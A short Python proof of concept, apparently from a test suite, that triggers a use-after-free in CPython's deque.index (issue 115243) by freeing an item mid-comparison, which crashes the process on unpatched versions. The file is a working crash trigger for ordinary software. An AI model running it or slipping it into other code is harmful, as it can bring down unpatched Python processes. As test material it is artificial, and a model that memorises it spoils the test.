"""Class: memory. Source: CPython issue 115243. Escape: the process breaks: a deque looks for a value, and
goes on with an item that the comparison has freed. Teeth: none, mended in Python 3.11.9 and 3.12.3;
before, tests/attacks/teeth shows it."""

from collections import deque

kept = []
items = deque()


class Freed:
    def __eq__(self, other):
        items.clear()
        kept.extend(bytes(24) for _ in range(50))
        return NotImplemented

    __hash__ = None


class Asks:
    def __eq__(self, other):
        return repr(other) + str(other)

    __hash__ = None


def attack(model, tokenizer, address):
    for _ in range(2000):
        kept.clear()
        items.append(Freed())
        try:
            items.index(Asks())
        except Exception:
            pass
